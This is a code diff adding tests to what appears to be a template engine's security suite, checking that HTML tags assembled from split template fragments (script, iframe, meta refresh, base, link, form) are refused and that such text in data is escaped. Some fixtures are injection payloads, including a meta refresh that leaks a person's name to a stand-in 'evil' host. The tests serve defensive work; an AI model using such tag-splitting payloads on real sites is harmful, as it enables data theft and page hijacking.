@@ -212,6 +212,26 @@ function cpuMilliseconds(since: NodeJS.CpuUsage): number {
   return (user + system) / 1000;
 }
 
+describe('a tag in pieces', () => {
+  it.each([
+    '<m{{nobody}}eta http-equiv="refresh" content="0;url=http://evil/leak?{{person.name}}">',
+    '<scr{{#if yes}}ipt{{/if}}>x</script>',
+    '<b{{lookup person "nothing"}}ase href="http://evil/">',
+    '<{{#each person.tags}}{{#if @last}}link{{/if}}{{/each}} rel="stylesheet" href="http://evil/">',
+    '<{{nobody}}iframe></iframe>',
+    '<f{{!-- a comment --}}orm>',
+  ])('is refused when it is put together: %s', (source) => {
+    const template = compileTemplate(source);
+    const work = () => evaluateTemplate(template, toTemplateValue(data), format);
+    expect(faultOf(work).code).toBe('template.forbidden_markup');
+  });
+
+  it('is none where data says so', () => {
+    const title = '<meta> JavaScript: url(http://example.org) @import <script>';
+    expect(evaluate('{{title}}', { title })).toContain('&lt;meta&gt; JavaScript:');
+  });
+});
+
 describe('a template that asks for too much', () => {
   const long = { list: Array.from({ length: 1000 }, (_, index) => index), text: 'x'.repeat(10_000) };
 
